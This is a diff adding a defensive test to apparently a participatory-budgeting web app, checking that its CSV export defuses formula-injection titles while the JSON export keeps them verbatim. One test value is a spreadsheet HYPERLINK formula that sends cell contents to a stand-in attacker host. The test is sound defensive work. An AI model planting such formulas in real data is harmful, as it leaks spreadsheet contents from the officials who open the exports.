@@ -301,3 +301,24 @@ def test_markdown_strips_raw_html_images_frames_and_styles(evil):
     parser.feed(html)
     assert not parser.styled, html
     assert "before" in text and "after" in text  # the rest of the text survives
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_open_as_text(client, areas, users, open_process):
+    """CSV injection: a title like '=HYPERLINK(...)' must not become a live formula when an
+    official opens the export in Excel; the JSON export keeps the title exactly as written."""
+    from app.models import Proposal
+
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    budget = open_process.budgets[0]
+    for n, title in enumerate([formula, "+7 701 000", "-1+1", "@SUM(A1)", "Ordinary - title"]):
+        db.session.add(Proposal(process=open_process, budget=budget, area=areas["Esil district / okrug 7"],
+                                author=users["resident"], title=title, description="x", description_html="<p>x</p>",
+                                address="Astana", estimated_cost=1_000_000 + n, status="submitted"))
+    db.session.commit()
+    response = client.get(f"/api/v1/processes/{open_process.id}/export/proposals.csv")
+    rows = list(csv.DictReader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))
+    titles = {row["title"] for row in rows}
+    assert titles == {"'" + formula, "'+7 701 000", "'-1+1", "'@SUM(A1)", "Ordinary - title"}
+    assert {row["estimated_cost_kzt"] for row in rows} == {str(1_000_000 + n) for n in range(5)}  # numbers untouched
+    exported = client.get(f"/api/v1/processes/{open_process.id}/export/proposals.json").get_json()
+    assert formula in {row["title"] for row in exported["rows"]}
